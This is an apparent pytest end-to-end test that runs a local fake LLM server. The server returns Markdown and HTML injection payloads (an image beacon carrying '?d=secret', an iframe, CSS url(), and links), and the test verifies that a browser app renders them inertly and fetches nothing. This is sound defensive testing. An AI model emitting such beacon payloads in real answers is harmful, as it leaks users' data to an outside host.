"""Browser e2e: a hostile OpenAI-compatible server's answer renders as text; the browser fetches nothing it names.

The server (a small ``http.server`` thread on 127.0.0.1) answers ``/v1/models`` and streamed
``/v1/chat/completions`` with Markdown images, links and raw HTML pointing back at itself, and records every
request. The app's base and fine-tuned slots point at it (no key). A participant asks a question (itself carrying
an image) on Compare in headless Chromium: the answer's text shows, formatted, and the server never receives a
request for any URL that the answer or the question names.
"""

from __future__ import annotations

import json
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.conftest import free_port
from tests.e2e.conftest import wait_idle

pytestmark = [pytest.mark.slow, pytest.mark.browser]

MODELS = ("hostile-base", "hostile-ft")
BAIT = ("/beacon.png", "/img.png", "/link", "/auto", "/frame", "/css.png", "/question.png", "/ref")
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002"
    "000154a24f5d0000000049454e44ae426082"
)


def hostile_answer(base: str) -> str:
    return (
        f"Safe **answer** marker-7Q.\n\n- first bullet\n- second bullet\n\n"
        f'![beacon]({base}/beacon.png?d=secret) <img src="{base}/img.png">\n'
        f'[click]({base}/link) <{base}/auto> <iframe src="{base}/frame"></iframe>\n'
        f"<style>body {{ background: url({base}/css.png) }}</style> :red[red] $x$\n\n[r]: {base}/ref\n"
    )


class HostileServer:
    def __init__(self) -> None:
        self.port = free_port()
        self.base = f"http://127.0.0.1:{self.port}"
        self.paths: list[str] = []
        self.lock = threading.Lock()
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:
                pass

            def _record(self) -> None:
                with outer.lock:
                    outer.paths.append(self.path)

            def _send(self, status: int, body: bytes, ctype: str) -> None:
                self.send_response(status)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self) -> None:
                self._record()
                if self.path.rstrip("/").endswith("/v1/models"):
                    data = {"object": "list", "data": [{"id": m, "object": "model", "owned_by": "x"} for m in MODELS]}
                    self._send(200, json.dumps(data).encode(), "application/json")
                else:
                    self._send(200, PNG, "image/png")

            def do_POST(self) -> None:
                self._record()
                body = json.loads(self.rfile.read(int(self.headers.get("Content-Length") or 0)) or b"{}")
                text = hostile_answer(outer.base)
                model = body.get("model", MODELS[0])
                if not body.get("stream"):
                    out = {
                        "id": "x",
                        "object": "chat.completion",
                        "model": model,
                        "created": 0,
                        "choices": [
                            {"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": text}}
                        ],
                        "usage": {"prompt_tokens": 10, "completion_tokens": 20, "total_tokens": 30},
                    }
                    self._send(200, json.dumps(out).encode(), "application/json")
                    return
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.end_headers()
                pieces = re.findall(r".{1,12}", text, flags=re.S)
                for i, piece in enumerate(pieces):
                    chunk = {
                        "id": "x",
                        "object": "chat.completion.chunk",
                        "model": model,
                        "created": 0,
                        "choices": [
                            {
                                "index": 0,
                                "delta": {"content": piece},
                                "finish_reason": "stop" if i == len(pieces) - 1 else None,
                            }
                        ],
                    }
                    self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
                    self.wfile.flush()
                self.wfile.write(b"data: [DONE]\n\n")
                self.wfile.flush()

        self.httpd = ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    def __enter__(self) -> HostileServer:
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()

    def requested(self) -> list[str]:
        with self.lock:
            return list(self.paths)


@pytest.fixture(scope="module")
def hostile():
    with HostileServer() as server:
        yield server


@pytest.fixture(scope="module")
def hostile_app(hostile, app_on_stub):
    url, _ = app_on_stub(
        "untrusted-data", f"{hostile.base}/v1", {"BASE": MODELS[0], "FT": MODELS[1]}, RAGFT_MAX_TOKENS="64"
    )
    return url


def test_hostile_answer_renders_as_text_and_loads_nothing(hostile_app, hostile, page):
    page.goto(hostile_app)
    wait_idle(page)
    page.get_by_test_id("stSidebarNav").get_by_text("Compare", exact=True).click()
    box = page.get_by_label("Your question")
    box.wait_for()
    wait_idle(page)
    question = f'Price? ![q]({hostile.base}/question.png) :red[loud] <img src="{hostile.base}/question.png">'
    box.fill(question)
    box.press("Enter")
    answers = page.locator("[data-testid='stHtml']", has_text="marker-7Q")
    answers.first.wait_for(timeout=300_000)
    wait_idle(page, 300_000)
    page.wait_for_load_state("networkidle")
    assert any(p.endswith("/chat/completions") for p in hostile.requested())  # the slots did call it
    fetched = [p for p in hostile.requested() if p.split("?")[0] in BAIT]
    assert fetched == [], fetched  # the browser requested nothing the answer or the question names
    # Every panel shows the answer as text: formatting kept, image and link syntax visible with their URLs.
    assert answers.count() == 4
    first = answers.first
    assert first.locator("strong", has_text="answer").count() == 1
    assert first.locator("li").count() == 2
    assert f"![beacon]({hostile.base}/beacon.png?d=secret)" in first.inner_text()
    assert f"[click]({hostile.base}/link)" in first.inner_text()
    # The question is shown as typed, not rendered.
    assert page.get_by_text(question, exact=True).count() >= 1
    # Nothing in the page loads from or links to the hostile server, and it never saw such a request.
    for selector in ("img", "a", "iframe", "link", "source", "video", "audio"):
        for attr in ("src", "href", "srcset", "data"):
            assert page.locator(f"{selector}[{attr}*='127.0.0.1:{hostile.port}']").count() == 0, (selector, attr)
    assert page.locator("[data-testid='stHtml'] style").count() == 0
